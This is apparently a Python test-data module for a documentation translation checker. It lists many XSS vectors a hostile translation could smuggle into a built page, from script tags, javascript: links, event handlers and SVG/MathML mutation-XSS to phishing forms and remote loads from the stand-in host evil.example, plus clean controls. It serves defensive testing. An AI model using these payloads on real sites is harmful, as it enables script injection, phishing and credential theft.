"""Hostile translations, as data: what a translated article (or its handoff, its XLIFF, its front matter) may carry
that would make the published page run a script, load something from another host, show a phishing form or
navigate away. Each vector is one translated page of the test site that tests/hostile_site.py builds.

Learnt from the public XSS filter-evasion collections (the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's
XSS cheat sheet, html5sec.org, the mXSS write-ups on DOMPurify bypasses) and rewritten for this site: every
payload that executes announces itself with ``alert()``/``confirm()``/``prompt()`` (a dialog),
``console.log("LOCDOCS-XSS-<id>")``, a request to ``evil.example`` (another host) or a navigation, so the browser
test sees it happen. ``$ID`` in a payload is replaced by the vector's id.

Where a payload goes (``place``):

``body``           the Markdown body of docs/sv/ID.md, after a Swedish paragraph
``front-matter``   YAML lines that replace (or add) keys of docs/sv/ID.md's front matter
``handoff-translation``, ``handoff-heading``, ``handoff-title``, ``handoff-source``, ``handoff-both``
                   inside the translation span of a sentence, of a heading or of the front matter title, the
                   English (sxs-lookup) span of a sentence, or both sides, of a span-marked handoff ingested with
                   ``locdocs ingest`` (``handoff-control``: the same handoff, clean)
``xliff-source``   the <source> of one trans-unit of l10n/sv/ID.md.xlf, written after ingesting a clean
                   machine-translated handoff (``xliff-source-raw``: the payload is raw XML, e.g. CDATA)
``code-swap``      the English article has ``english`` (a harmless code example); the translation has ``payload``
                   (the same HTML, live)

Code and Markdown escape more than one expects: Python-Markdown leaves inline HTML whose unquoted attribute values
hold quotes as text (``<img src=x onerror=alert('x')>`` is shown, not run), so such payloads use ``alert(1)`` or
quoted values, and the harness checks that each vector is live without the sanitizer.

``suffix`` is the translation's file suffix: besides ``.md``, MkDocs builds ``.markdown``, ``.mdown``, ``.mkdn`` and
``.mkd`` files, which the check must read too.

``english`` is a snippet the English article gets too (for the controls, and for vectors that must be judged
against what the English has). ``rule`` is the rule id ``locdocs check`` must report for the vector's file;
``None`` for a control, which must produce no ``unsafe-content`` finding and stay as written.
"""

from __future__ import annotations

from dataclasses import dataclass

ALLOWED_HOST = "docs.github.com"
"""Listed in the test site's ``allowed_hosts`` (when the plugin has that option): links to it are kept."""


@dataclass(frozen=True)
class Vector:
    id: str
    """A slug: the article's file name and the parametrized test's id."""
    category: str
    place: str
    payload: str
    rule: str | None = "unsafe-content"
    english: str = ""
    """What the English article has too (a control's twin, or what a vector is judged against)."""
    suffix: str = ".md"
    """The translation's file suffix (the English article is always .md)."""
    mt: bool = False
    """The translation is machine translated (ms.translationtype: MT): its page shows the English originals."""
    visible: str | None = None
    """Controls: the visible text (innerText) of the translated article, line by line (blank lines and the
    whitespace around each line do not count)."""
    code: tuple[str, ...] = ()
    """Controls: the exact text of each code block (``pre code``) of the translated article."""
    originals: tuple[str, ...] = ()
    """Controls: the exact text of each "English original" span of the machine-translated page."""

    @property
    def control(self) -> bool:
        return self.rule is None


def _vector(id: str, category: str, place: str, payload: str, rule: str | None = "unsafe-content", **kwargs) -> Vector:
    fill = {key: value.replace("$ID", id) if isinstance(value, str) else value for key, value in kwargs.items()}
    return Vector(id=id, category=category, place=place, payload=payload.replace("$ID", id), rule=rule, **fill)


def _body(category: str, rows: list[tuple[str, str]], **kwargs) -> list[Vector]:
    return [_vector(id, category, "body", payload, **kwargs) for id, payload in rows]


# --- script, iframe, object, embed ------------------------------------------------------------------------------

ELEMENTS = _body("elements", [
    ("script-block", "<script>alert('$ID')</script>"),
    ("script-inline", "Se steg 1 <script>console.log('LOCDOCS-XSS-$ID')</script> och steg 2."),
    ("script-src-remote", '<script src="https://evil.example/$ID.js"></script>'),
    ("script-src-protocol-relative", "<script src=//evil.example/$ID.js></script>"),
    ("script-src-data", "<script src=\"data:text/javascript,alert('$ID')\"></script>"),
    ("script-uppercase", "<SCRIPT>alert('$ID')</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>confirm('$ID')</sCrIpT>"),
    ("script-slash-attribute", "<script/x>prompt('$ID')</script>"),
    ("script-split-name", "<scr<script>ipt>alert('$ID')</scr</script>ipt>"),
    ("script-in-table", "| Steg | Text |\n|---|---|\n| 1 | <script>alert('$ID')</script> |"),
    ("script-in-admonition", '!!! note "Obs"\n    Läs detta <script>alert(\'$ID\')</script> först.'),
    ("script-in-md-in-html", "<div markdown>\n\n**Fet** text <script>alert('$ID')</script>\n\n</div>"),
    ("script-in-list", "* Första punkten\n* Andra <script>alert('$ID')</script> punkten"),
    ("script-in-blockquote", "> Ett citat <script>alert('$ID')</script> här."),
    ("iframe-javascript", "<iframe src=\"javascript:alert('$ID')\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<img src=x onerror=parent.alert('$ID')>\"></iframe>"),
    ("iframe-remote", '<iframe src="https://evil.example/$ID"></iframe>'),
    ("iframe-data", "<iframe src=\"data:text/html,<script>fetch('https://evil.example/$ID')</script>\"></iframe>"),
    ("iframe-onload", "<iframe onload=\"alert('$ID')\"></iframe>"),
    ("object-remote", '<object data="https://evil.example/$ID.svg" type="image/svg+xml"></object>'),
    ("object-data-html",
     "<object data=\"data:text/html,<script>fetch('https://evil.example/$ID')</script>\" type=\"text/html\"></object>"),
    ("embed-remote", '<embed src="https://evil.example/$ID.svg" type="image/svg+xml">'),
    ("embed-javascript", "<embed src=\"javascript:alert('$ID')\">"),
])

# --- <base>, <meta http-equiv> ----------------------------------------------------------------------------------

BASE_META = _body("base-meta", [
    ("base-href", '<base href="https://evil.example/$ID/">'),
    ("base-protocol-relative", '<base href="//evil.example/$ID/">'),
    ("base-javascript", "<base href=\"javascript:alert('$ID')//\">"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/$ID">'),
    ("meta-refresh-javascript", "<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert('$ID')\">"),
    ("meta-refresh-uppercase", '<META HTTP-EQUIV="Refresh" CONTENT="0;URL=//evil.example/$ID">'),
])

# --- phishing forms ---------------------------------------------------------------------------------------------

FORMS = _body("forms", [
    ("form-phishing", ('<form action="https://evil.example/$ID" method="post"><label>Lösenord <input type="password" '
                      'name="p"></label> <button>Logga in</button></form>')),
    ("form-protocol-relative", ('<form action="//evil.example/$ID"><input name="card" placeholder="Kortnummer"> '
                               '<input type="submit" value="Betala"></form>')),
    ("form-javascript-action", ("<form action=\"javascript:alert('$ID')\"><input type=\"submit\" value=\"Fortsätt\">"
                               "</form>")),
    ("form-same-page", ('<form method="post"><input name="user"> <input type="password" name="pass"> '
                       '<button type="submit">Logga in</button></form>')),
    ("button-formaction", ('<form id="f-$ID"></form><button form="f-$ID" formaction="https://evil.example/$ID">'
                          "Betala</button>")),
    ("input-formaction-javascript", ("<form><input type=\"submit\" formaction=\"javascript:alert('$ID')\" "
                                    'value="OK"></form>')),
    ("input-autofocus-onfocus", "<input autofocus onfocus=\"alert('$ID')\">"),
    ("textarea-autofocus-onfocus", "<textarea autofocus onfocus=\"alert('$ID')\"></textarea>"),
    ("select-autofocus-onfocus", "<select autofocus onfocus=alert(1)><option>1</option></select>"),
])

# --- remote and inline stylesheets, style attributes ------------------------------------------------------------

STYLES = _body("stylesheets", [
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/$ID.css">'),
    ("link-stylesheet-protocol-relative", "<link rel=stylesheet href=//evil.example/$ID.css>"),
    ("link-preload", '<link rel="preload" as="style" href="https://evil.example/$ID.css">'),
    ("style-import", '<style>@import url("https://evil.example/$ID.css");</style>'),
    ("style-import-string", "<style>@import 'https://evil.example/$ID.css';</style>"),
    ("style-background", "<style>body { background: url(https://evil.example/$ID.png) }</style>"),
    ("style-font-face", ("<style>@font-face { font-family: fx; src: url(https://evil.example/$ID.woff) }</style>"
                        '<span style="font-family: fx">Text</span>')),
    ("style-attr-url", "<p style=\"background-image: url('https://evil.example/$ID.png')\">Text</p>"),
    ("style-attr-protocol-relative", '<div style="background: url(//evil.example/$ID.png)">Text</div>'),
    ("style-attr-css-escape", r'<div style="background: u\72 l(https://evil.example/$ID.png)">Text</div>'),
    ("style-attr-image-set", ("<div style=\"background-image: image-set('https://evil.example/$ID.png' 1x)\">Text"
                             "</div>")),
    ("style-attr-overlay", ('<a href="https://evil.example/$ID" style="position: fixed; inset: 0; z-index: 9999; '
                           'background: #fff">Logga in igen</a>')),
])

# --- remote images ----------------------------------------------------------------------------------------------

IMAGES = _body("remote-images", [
    ("md-image-remote", "![Skärmbild](https://evil.example/$ID.png)"),
    ("md-image-protocol-relative", "![Skärmbild](//evil.example/$ID.png)"),
    ("md-image-backslash", r"![Skärmbild](/\evil.example/$ID.png)"),
    ("md-image-reference", "![Skärmbild][bild]\n\n[bild]: https://evil.example/$ID.png"),
    ("md-image-angle", '![Skärmbild](<https://evil.example/$ID.png> "Titel")'),
    ("img-remote", '<img src="https://evil.example/$ID.png" alt="bild">'),
    ("img-remote-uppercase", '<IMG SRC="HTTPS://EVIL.EXAMPLE/$ID.png">'),
    ("img-srcset", '<img src="saknas.png" srcset="https://evil.example/$ID.png 1x" alt="bild">'),
    ("picture-source", ('<picture><source srcset="https://evil.example/$ID.png"><img src="saknas.png" alt="bild">'
                       "</picture>")),
    ("video-poster", '<video poster="https://evil.example/$ID.png"></video>'),
    ("video-source", '<video><source src="https://evil.example/$ID.mp4"></video>'),
    ("audio-src", '<audio src="https://evil.example/$ID.mp3"></audio>'),
    ("input-image", '<input type="image" src="https://evil.example/$ID.png" alt="Skicka">'),
])

# --- javascript:, data:, vbscript: and other hosts' URLs in links, images, definitions and autolinks ------------

SCHEMES = _body("url-schemes", [
    ("md-link-javascript", "[Klicka här](javascript:alert('$ID'))"),
    ("md-link-javascript-mixed-case", "[Klicka här](JaVaScRiPt:alert('$ID'))"),
    ("md-link-javascript-entity", "[Klicka här](&#106;avascript:alert('$ID'))"),
    ("md-link-javascript-angle", "[Klicka här](<javascript:alert('$ID')>)"),
    ("md-link-javascript-title", "[Klicka här](javascript:alert('$ID') \"Hjälp\")"),
    ("md-link-javascript-percent", "[Klicka här](javascript:alert%28'$ID'%29)"),
    ("md-link-vbscript", "[Klicka här](vbscript:msgbox('$ID'))"),
    ("md-link-data", "[Klicka här](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-protocol-relative", "[Support](//evil.example/$ID)"),
    ("md-link-backslash", r"[Support](/\evil.example/$ID)"),
    ("md-link-remote", "[Logga in](https://evil.example/$ID)"),
    ("md-image-javascript", "![bild](javascript:alert('$ID'))"),
    ("md-image-data-svg", "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"),
    ("md-ref-javascript", "Se [hjälpen][hjalp].\n\n[hjalp]: javascript:alert('$ID')"),
    ("md-ref-javascript-entity", "Se [hjälpen][hjalp].\n\n[hjalp]: &#x6A;avascript:alert('$ID')"),
    ("md-ref-javascript-angle", "Se [hjälpen][hjalp].\n\n[hjalp]: <javascript:alert('$ID')>"),
    ("md-ref-javascript-title", "Se [hjälpen][hjalp].\n\n[hjalp]: JAVASCRIPT:alert('$ID') \"Hjälp\""),
    ("md-ref-protocol-relative", 'Se [hjälpen][hjalp].\n\n[hjalp]: //evil.example/$ID "Hjälp"'),
    ("md-ref-data", "Se [hjälpen][hjalp].\n\n[hjalp]: data:text/html,%3Cscript%3Ealert('$ID')%3C/script%3E"),
    ("md-autolink-remote", "Se <https://evil.example/$ID>."),
    ("a-javascript", "<a href=\"javascript:alert('$ID')\">Klicka</a>"),
    ("a-javascript-hex-entities", ("<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
                                  "alert('$ID')\">Klicka</a>")),
    ("a-javascript-decimal-unterminated", ("<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
                                          "&#0000105&#0000112&#0000116&#0000058alert('$ID')\">Klicka</a>")),
    ("a-javascript-tab-entity", "<a href=\"jav&#x09;ascript:alert('$ID')\">Klicka</a>"),
    ("a-javascript-newline-entity", "<a href=\"jav&#x0A;ascript:alert('$ID')\">Klicka</a>"),
    ("a-javascript-raw-newline", "Se <a href=\"java\nscript:alert('$ID')\">Klicka</a>"),
    ("a-javascript-leading-space", "<a href=\"  javascript:alert('$ID')\">Klicka</a>"),
    ("a-javascript-control-char", "<a href=\"&#14;javascript:alert('$ID')\">Klicka</a>"),
    ("a-javascript-colon-entity", "<a href=\"javascript&colon;alert('$ID')\">Klicka</a>"),
    ("a-vbscript", "<a href=\"VBScript:MsgBox('$ID')\">Klicka</a>"),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Klicka</a>'),
    ("a-backslash", r'<a href="\\evil.example/$ID">Support</a>'),
    ("a-protocol-relative", '<a href="//evil.example/$ID">Support</a>'),
    ("a-ping", '<a href="#steg" ping="https://evil.example/$ID">Steg</a>'),
    ("area-javascript", ('<img src="saknas.png" usemap="#m-$ID" alt="karta"><map name="m-$ID"><area shape="rect" '
                        "coords=\"0,0,10,10\" href=\"javascript:alert('$ID')\" alt=\"x\"></map>")),
])

# --- event handlers and style through attr_list ({: ... }) -------------------------------------------------------

ATTR_LIST = _body("attr-list", [
    ("attrlist-heading-onmouseover", "## Steg { onmouseover=\"alert('$ID')\" }"),
    ("attrlist-paragraph-onclick", "Ett stycke.\n{: onclick=\"alert('$ID')\" }"),
    ("attrlist-link-onmouseover", "[Länk](#steg){: onmouseover=\"alert('$ID')\" }"),
    ("attrlist-image-onerror", "![bild](saknas.png){: onerror=\"alert('$ID')\" }"),
    ("attrlist-heading-autofocus", "## Steg { tabindex=\"0\" autofocus=\"autofocus\" onfocus=\"alert('$ID')\" }"),
    ("attrlist-link-href", "[Länk](#steg){: href=\"javascript:alert('$ID')\" }"),
    ("attrlist-image-src", '![bild](saknas.png){: src="https://evil.example/$ID.png" }'),
    ("attrlist-style-url", 'Ett stycke.\n{: style="background: url(https://evil.example/$ID.png)" }'),
    ("attrlist-animation", "Ett stycke.\n{: style=\"animation: pulse 1ms\" onanimationstart=\"alert('$ID')\" }"),
    ("attrlist-list-item", "* Punkt\n{: onclick=\"alert('$ID')\" }\n* Punkt två"),
    ("attrlist-table-cell", "| Steg | Text |\n|---|---|\n| 1 { onclick=\"alert('$ID')\" } | x |"),
    ("attrlist-image-unquoted", "![bild](saknas.png){ onerror=alert(1) }"),
    ("attrlist-uppercase", "Ett stycke.\n{: OnMouseOver=\"alert('$ID')\" }"),
])

# --- event handlers in raw HTML ---------------------------------------------------------------------------------

EVENTS = _body("event-handlers", [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-newlines", "Text <img\nsrc=x\nonerror=alert(1)>"),
    ("img-onerror-tabs", "<img\tsrc=x\tonerror=alert(1)>"),
    ("img-onerror-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;('$ID')\">"),
    ("img-onerror-self-closing", "<img src=\"x\" onerror=\"alert('$ID')\"/>"),
    ("img-onerror-in-heading", "## Steg <img src=x onerror=alert(1)>"),
    ("img-onerror-in-link-text", "[<img src=x onerror=alert(1)>](#steg)"),
    ("image-tag-alias", "<image src=x onerror=alert(1)>"),
    ("body-onload", "<body onload=\"alert('$ID')\">"),
    ("details-ontoggle", "<details open ontoggle=\"alert('$ID')\"><summary>Mer</summary>Text</details>"),
    ("video-source-onerror", "<video><source onerror=\"alert('$ID')\"></video>"),
    ("audio-onerror", "<audio src=\"saknas.mp3\" onerror=\"alert('$ID')\"></audio>"),
    ("marquee-onstart", "<marquee onstart=\"alert('$ID')\">Text</marquee>"),
    ("div-onmouseover", "<div onmouseover=\"alert('$ID')\">Håll musen här</div>"),
    ("animation-onanimationstart", "<p style=\"animation: pulse 1ms\" onanimationstart=\"alert('$ID')\">Text</p>"),
    ("object-onerror", "<object data=\"saknas.swf\" onerror=\"alert('$ID')\"></object>"),
    ("admonition-title-img", '!!! note "<img src=x onerror=alert(1)>"\n    Text.'),
    ("details-summary-svg", '??? note "<svg onload=alert(1)>"\n    Text.'),
])

# --- HTML that a regular expression reads differently from a browser -------------------------------------------

PARSER = _body("parser-confusion", [
    ("quoted-gt", "<img alt=\"a>b\" src=x onerror=alert(1)>"),
    ("quoted-gt-single", "<img title='>' src=x onerror=\"alert('$ID')\">"),
    ("no-space-between-attributes", "<div><img src=\"x\"onerror=\"alert('$ID')\"></div>"),
    ("slash-between-attributes", "<div><img/src=\"x\"/onerror=\"alert('$ID')\"></div>"),
    ("comment-abrupt", "<!--><img src=x onerror=alert('$ID')>-->"),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("comment-dash-abrupt", "<!---><script>alert('$ID')</script>-->"),
    ("cdata-bogus-comment", "<![CDATA[><img src=x onerror=alert('$ID')>]]>"),
    ("processing-instruction", "<?xml-stylesheet ><img src=x onerror=alert('$ID')>?>"),
    ("unclosed-tag", "<div>\n<img src=x onerror=alert('$ID')\n</div>"),
    ("double-open", "<<img src=x onerror=alert(1)>"),
    ("style-comment-breakout", "<style><!--</style><img src=x onerror=alert('$ID')>--></style>"),
])

# --- SVG --------------------------------------------------------------------------------------------------------

SVG = _body("svg", [
    ("svg-onload", "<svg onload=\"alert('$ID')\"></svg>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert('$ID')</script></svg>"),
    ("svg-script-cdata", "<svg><script><![CDATA[alert('$ID')]]></script></svg>"),
    ("svg-script-href", '<svg><script href="https://evil.example/$ID.js"></script></svg>'),
    ("svg-a-xlink-href", ("<svg width=\"100\" height=\"20\"><a xlink:href=\"javascript:alert('$ID')\"><text x=\"0\" "
                         'y="15">Klicka</text></a></svg>')),
    ("svg-animate-href", ("<svg width=\"100\" height=\"20\"><a><animate attributeName=\"href\" "
                         "values=\"javascript:alert('$ID')\"/><text x=\"0\" y=\"15\">Klicka</text></a></svg>")),
    ("svg-set-href", ("<svg width=\"100\" height=\"20\"><a><set attributeName=\"href\" to=\"javascript:alert('$ID')\"/>"
                     '<text x="0" y="15">Klicka</text></a></svg>')),
    ("svg-animate-onbegin", "<svg><animate onbegin=\"alert('$ID')\" attributeName=\"x\" dur=\"1s\"/></svg>"),
    ("svg-set-onbegin", "<svg><set onbegin=\"console.log('LOCDOCS-XSS-$ID')\" attributeName=\"x\" to=\"1\"/></svg>"),
    ("svg-discard-onbegin", "<svg><discard onbegin=\"alert('$ID')\"/></svg>"),
    ("svg-foreignobject", ("<svg><foreignObject width=\"100\" height=\"50\"><img src=\"x\" onerror=\"alert('$ID')\">"
                          "</foreignObject></svg>")),
    ("svg-image-remote", '<svg><image href="https://evil.example/$ID.png" width="10" height="10"/></svg>'),
    ("svg-use-remote", '<svg><use href="https://evil.example/$ID.svg#icon"/></svg>'),
    ("svg-style-import", "<svg><style>@import url(https://evil.example/$ID.css);</style></svg>"),
    ("svg-rect-onmouseover", "<svg><rect width=\"10\" height=\"10\" onmouseover=\"alert('$ID')\"/></svg>"),
    ("svg-style-img", "<svg><style><img src=x onerror=alert('$ID')></style></svg>"),
])

# --- MathML and namespace confusion (mutation XSS) --------------------------------------------------------------

MATHML = _body("mathml-mxss", [
    ("math-mglyph-style", ("<math><mtext><table><mglyph><style><img src=x onerror=alert('$ID')></style></mglyph>"
                          "</table></mtext></math>")),
    ("math-mglyph-style-comment", ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph"
                                  "&gt;&lt;img&Tab;src=1&Tab;onerror=alert('$ID')&gt;\"></mglyph></table></mtext>"
                                  "</math>")),
    ("math-annotation-xml", ("<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert('$ID')>"
                            "</annotation-xml></math>")),
    ("math-style-img", "<math><style><img src=x onerror=alert('$ID')></style></math>"),
    ("math-href", "<math href=\"javascript:alert('$ID')\"><mi>x</mi></math>"),
    ("math-maction-xlink", ("<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('$ID')\">"
                           "<mtext>Klicka</mtext></maction></math>")),
    ("svg-p-style-mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert('$ID')>\"></svg>"),
    ("form-math-mxss", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('$ID')>"),
])

# --- raw-text elements: noscript, template, textarea, title, xmp, iframe, noembed, noframes ----------------------

RAWTEXT = _body("rawtext-breakout", [
    ("noscript-attribute", "<noscript><p title=\"</noscript><img src=x onerror=alert('$ID')>\"></noscript>"),
    ("textarea-breakout", "<textarea><p title=\"</textarea><img src=x onerror=alert('$ID')>\"></textarea>"),
    ("title-breakout", "<title><p title=\"</title><img src=x onerror=alert('$ID')>\"></title>"),
    ("xmp-breakout", "<xmp><p title=\"</xmp><img src=x onerror=alert('$ID')>\"></xmp>"),
    ("iframe-rawtext-breakout", "<iframe><p title=\"</iframe><img src=x onerror=alert('$ID')>\"></iframe>"),
    ("noembed-breakout", "<noembed><p title=\"</noembed><img src=x onerror=alert('$ID')>\"></noembed>"),
    ("noframes-breakout", "<noframes><p title=\"</noframes><img src=x onerror=alert('$ID')>\"></noframes>"),
    ("template-inert", "<template><img src=x onerror=alert('$ID')></template>"),
    ("template-shadowroot", ("<div><template shadowrootmode=\"open\"><img src=x onerror=alert('$ID')></template>"
                            "</div>")),
])

# --- front matter -----------------------------------------------------------------------------------------------

FRONT_MATTER = [
    _vector("fm-title-script", "front-matter", "front-matter", "title: \"<script>alert('$ID')</script>\""),
    _vector("fm-title-yaml-escapes", "front-matter", "front-matter",
            "title: \"Hej \\x3cimg src=x onerror=alert('$ID')\\x3e\""),
    _vector("fm-title-unicode-escapes", "front-matter", "front-matter",
            "title: \"\\u003csvg onload=alert('$ID')\\u003e\""),
    _vector("fm-title-breakout", "front-matter", "front-matter",
            "title: \"</title><script>alert('$ID')</script>\""),
    _vector("fm-title-folded", "front-matter", "front-matter",
            "title: >-\n  Hej\n  <img src=x onerror=alert('$ID')>"),
    _vector("fm-description-breakout", "front-matter", "front-matter",
            "description: '\"><script>alert(''$ID'')</script>'"),
    _vector("fm-description-img", "front-matter", "front-matter",
            "description: \"\\\"><img src=x onerror=alert('$ID')>\""),
    _vector("fm-description-block", "front-matter", "front-matter",
            "description: |\n  \"><svg onload=alert('$ID')>"),
    _vector("fm-author-breakout", "front-matter", "front-matter",
            "author: '\"><img src=x onerror=alert(''$ID'')>'", rule="front-matter-mismatch"),
    _vector("fm-template-redirect", "front-matter", "front-matter",
            "template: redirect.html\nlocation: https://evil.example/$ID", rule="front-matter-mismatch"),
    _vector("fm-template-redirect-javascript", "front-matter", "front-matter",
            "template: redirect.html\nlocation: \"javascript:alert('$ID')\"", rule="front-matter-mismatch"),
    _vector("fm-hide", "front-matter", "front-matter", "hide:\n  - navigation\n  - toc\n  - footer",
            rule="front-matter-mismatch"),
    _vector("fm-other-key", "front-matter", "front-matter", "ms.custom: \"<script>alert('$ID')</script>\"",
            rule="front-matter-mismatch"),
]

# --- span-marked handoffs, ingested; and XLIFF written by hand ---------------------------------------------------

HANDOFFS = [
    _vector("handoff-translation-img", "handoff", "handoff-translation", "<img src=x onerror=alert(1)>"),
    _vector("handoff-translation-script", "handoff", "handoff-translation", "<script>alert('$ID')</script>"),
    _vector("handoff-translation-link", "handoff", "handoff-translation", "[hjälp](javascript:alert('$ID'))"),
    _vector("handoff-translation-heading", "handoff", "handoff-heading", "<img src=x onerror=alert(1)>"),
    _vector("handoff-title", "handoff", "handoff-title", "<img src=x onerror=alert(1)>"),
    _vector("handoff-source-img", "handoff", "handoff-source", "<img src=x onerror=alert(1)>", mt=True),
    _vector("handoff-source-script", "handoff", "handoff-source", "<script>alert('$ID')</script>", mt=True),
    _vector("handoff-source-link", "handoff", "handoff-source", "[help](javascript:alert('$ID'))", mt=True),
    _vector("handoff-source-remote-image", "handoff", "handoff-source", "![x](https://evil.example/$ID.png)",
            mt=True),
    _vector("handoff-source-svg", "handoff", "handoff-source", "<svg onload=alert(1)>", mt=True),
    _vector("handoff-both-sides", "handoff", "handoff-both", "<img src=x onerror=alert(1)>", mt=True),
]

XLIFF = [
    _vector("xliff-source-img", "xliff", "xliff-source", "Follow <img src=x onerror=alert(1)> the steps.",
            mt=True),
    _vector("xliff-source-script", "xliff", "xliff-source", "Follow the steps.<script>alert('$ID')</script>",
            mt=True),
    _vector("xliff-source-link", "xliff", "xliff-source", "Follow [the steps](javascript:alert('$ID')).", mt=True),
    _vector("xliff-source-remote-image", "xliff", "xliff-source",
            "Follow the steps. ![x](https://evil.example/$ID.png)", mt=True),
    _vector("xliff-source-cdata", "xliff", "xliff-source-raw",
            "<![CDATA[Follow the steps.<svg onload=alert(1)>]]>", mt=True),
    _vector("xliff-source-span-breakout", "xliff", "xliff-source",
            "Follow the steps.</span><img src=x onerror=alert(1)><span>", mt=True),
]

# --- a translation that makes the English's harmless code example live -------------------------------------------

CODE_SWAP = [
    _vector("code-swap-fenced", "code-swap", "code-swap", "<script>alert('$ID')</script>",
            english="```html\n<script>alert('$ID')</script>\n```"),
    _vector("code-swap-inline", "code-swap", "code-swap", "Skriv <img src=x onerror=alert(1)> i filen.",
            english="Write `<img src=x onerror=alert(1)>` in the file."),
    _vector("code-swap-indented", "code-swap", "code-swap", "<iframe src=\"javascript:alert('$ID')\"></iframe>",
            english="Example:\n\n    <iframe src=\"javascript:alert('$ID')\"></iframe>"),
    _vector("code-swap-raw-pre", "code-swap", "code-swap",
            '<pre><code class="language-html"><svg onload=alert(1)></code></pre>',
            english="```html\n<svg onload=alert(1)>\n```"),
    _vector("code-swap-closed-early", "code-swap", "code-swap",
            "~~~html\n~~~\n<img src=x onerror=alert(1)>",
            english="~~~html\n<img src=x onerror=alert(1)>\n~~~"),
]

# --- a file that the check might not read -----------------------------------------------------------------------

FILE_EXTENSIONS = [
    _vector("markdown-extension", "file-extension", "body", "<img src=x onerror=alert(1)>", suffix=".markdown"),
    _vector("markdown-extension-script", "file-extension", "body", "<script>alert('$ID')</script>",
            suffix=".markdown"),
    _vector("mdown-extension", "file-extension", "body", "<svg onload=\"alert('$ID')\"></svg>", suffix=".mdown"),
    _vector("mkdn-extension", "file-extension", "body", "[Klicka](javascript:alert('$ID'))", suffix=".mkdn"),
    _vector("mkd-extension", "file-extension", "body", "![bild](https://evil.example/$ID.png)", suffix=".mkd"),
]

# --- other hosts, judged against what the English links to ------------------------------------------------------

HOSTS = [
    _vector("host-suffix", "hosts", "body", "[Dokumentation](https://learn.microsoft.com.evil.example/$ID)",
            english="[Docs](https://learn.microsoft.com/en-us/azure/)"),
    _vector("host-userinfo", "hosts", "body", "[Dokumentation](https://learn.microsoft.com@evil.example/$ID)",
            english="[Docs](https://learn.microsoft.com/en-us/azure/)"),
    _vector("host-other-than-english", "hosts", "body", "[Dokumentation](https://evil.example/$ID)",
            english="[Docs](https://learn.microsoft.com/en-us/azure/)"),
    _vector("iframe-other-than-english", "hosts", "body", '<iframe src="https://evil.example/$ID"></iframe>',
            english='<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>'),
    _vector("iframe-english-url-with-handler", "hosts", "body",
            "<iframe src=\"https://www.youtube-nocookie.com/embed/x\" onload=\"alert('$ID')\"></iframe>",
            english='<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>'),
    _vector("img-other-than-english", "hosts", "body", '<img src="https://evil.example/$ID.png" alt="status">',
            english="![status](https://status.example.com/badge.svg)"),
    _vector("iframe-english-url-with-srcdoc", "hosts", "body",
            "<iframe src=\"https://www.youtube-nocookie.com/embed/x\" srcdoc=\"<img src=x "
            "onerror=parent.alert('$ID')>\"></iframe>",
            english='<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>'),
    _vector("img-english-url-with-onerror", "hosts", "body",
            "<img src=\"https://status.example.com/badge.svg\" alt=\"status\" onerror=\"alert('$ID')\">",
            english='<img src="https://status.example.com/badge.svg" alt="status">'),
    _vector("a-english-url-with-handler", "hosts", "body",
            "<a href=\"https://learn.microsoft.com/en-us/azure/\" onmouseover=\"alert('$ID')\">Dokumentation</a>",
            english="[Docs](https://learn.microsoft.com/en-us/azure/)"),
    _vector("iframe-to-english-link-host", "hosts", "body",
            '<iframe src="https://learn.microsoft.com/en-us/azure/"></iframe>',
            english="[Docs](https://learn.microsoft.com/en-us/azure/)"),
    _vector("script-english-has-another", "hosts", "body", "<script>alert('$ID')</script>",
            english='<script src="https://status.example.com/widget.js"></script>'),
    _vector("script-english-modified", "hosts", "body",
            "<script>console.log('english analytics'); alert('$ID')</script>",
            english="<script>console.log('english analytics')</script>"),
    _vector("style-english-other-value", "hosts", "body",
            '<p style="color: gray; background: url(https://evil.example/$ID.png)">Grå text.</p>',
            english='<p style="color: gray">Grey text.</p>'),
]

# --- controls: what translations legitimately have, which must stay exactly as written --------------------------

INTRO = "Testartikel\nDen här artikeln ingår i testerna.\n"
"""The visible text of the translated article before the payload (its heading and first paragraph)."""
CODE_EXAMPLE = "<script>alert('kod')</script>\n<img src=x onerror=alert(1)>"
CONTROLS = [
    _vector("ctl-code-blocks", "control", "body",
            "```html\n" + CODE_EXAMPLE + "\n```\n\nAnvänd `<script>` och `<iframe src=\"javascript:x\">` i exempel.",
            rule=None,
            english=("```html\n" + CODE_EXAMPLE + "\n```\n\n"
                     "Use `<script>` and `<iframe src=\"javascript:x\">` in examples."),
            visible=INTRO + CODE_EXAMPLE + "\nAnvänd <script> och <iframe src=\"javascript:x\"> i exempel.",
            code=(CODE_EXAMPLE, "<script>", '<iframe src="javascript:x">')),
    _vector("ctl-table-alignment", "control", "body",
            "| Vänster | Mitten | Höger |\n|:--|:-:|--:|\n| a | b | c |", rule=None,
            english="| Left | Centre | Right |\n|:--|:-:|--:|\n| a | b | c |",
            visible=INTRO + "Vänster\tMitten\tHöger\na\tb\tc"),
